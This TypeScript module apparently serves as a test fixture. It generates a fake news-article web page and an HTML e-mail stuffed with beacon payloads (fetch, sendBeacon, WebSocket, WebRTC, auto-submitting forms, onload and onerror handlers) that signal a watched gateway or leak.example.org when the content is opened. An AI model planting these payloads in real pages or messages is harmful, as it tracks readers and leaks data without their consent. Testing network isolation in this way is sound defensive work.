// A page that tries to tell somebody that it was read, in every way that a page knows.
import { GATEWAY } from './watched-network';

const sentence =
  'The ministry said on Tuesday that the talks would go on, and that both sides had received the revised paper. ';

/** Reads as an article; each attempt asks the gateway, by its number or by a name. */
export function hostilePage(): string {
  const base = `http://${GATEWAY}`;
  const named = 'http://leak.example.org';
  const script = `
    fetch('${base}/fetch'); navigator.sendBeacon('${base}/beacon', 'x'); new WebSocket('ws://${GATEWAY}/socket');
    new EventSource('${base}/events'); new Image().src = '${base}/image'; new Worker('${base}/worker.js');
    const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${GATEWAY}:3478' }] });
    call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer));
    window.open('${base}/window'); const s = document.createElement('script'); s.src = '${base}/later.js'; document.head.append(s);
    new FontFace('leak', 'url(${base}/font.woff2)').load(); import('${base}/module.js'); location.href = '${base}/location';`;
  return `<!doctype html><html lang="en" manifest="${base}/manifest"><head><title>Talks go on</title>
    <base href="${base}/"><meta http-equiv="refresh" content="0;url=${base}/refresh">
    <link rel="dns-prefetch" href="//prefetch.example.org"><link rel="preconnect" href="${named}">
    <link rel="prefetch" href="${base}/prefetch"><link rel="prerender" href="${base}/prerender"><link rel="preload" as="image" href="${base}/preload">
    <link rel="stylesheet" href="${base}/style.css"><link rel="icon" href="${named}/icon.png"><link rel="modulepreload" href="${base}/m.js">
    <style>@import url(${base}/import.css); @font-face { font-family: x; src: url(${base}/x.woff2) } body { background: url(${base}/b.png); font-family: x }</style>
    <script src="${base}/script.js"></script><script>${script}</script></head>
    <body onload="fetch('${base}/load')"><article><h1>Talks go on</h1><p>${sentence.repeat(4)}</p>
    <img src="${base}/i.png" srcset="${named}/i2.png 2x" onerror="fetch('${base}/onerror')"><picture><source srcset="${base}/p.webp"><img src="x"></picture>
    <svg onload="fetch('${base}/svg')"><image href="${base}/svg.png"/><use href="${base}/use.svg#a"/></svg>
    <iframe src="${base}/frame"></iframe><iframe srcdoc="<img src='${base}/srcdoc'>"></iframe><object data="${base}/object"></object>
    <embed src="${base}/embed"><video src="${base}/video" poster="${base}/poster" autoplay></video><audio src="${named}/audio" autoplay></audio><track src="${base}/track">
    <form action="${base}/form" id="f"><input autofocus onfocus="f.submit()"></form><a href="${base}/ping" ping="${base}/pinged">link</a>
    <input type="image" src="${base}/button"><table background="${base}/table"><tr><td>x</td></tr></table>
    <p>Last words of the article.</p></article></body></html>`;
}

/** The same as an e-mail. */
export function hostileMessage(): string {
  return `From: a@b.example\r\nSubject: Talks go on\r\nDate: Tue, 6 Feb 2024 10:00:00 +0200\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${hostilePage()}`;
}
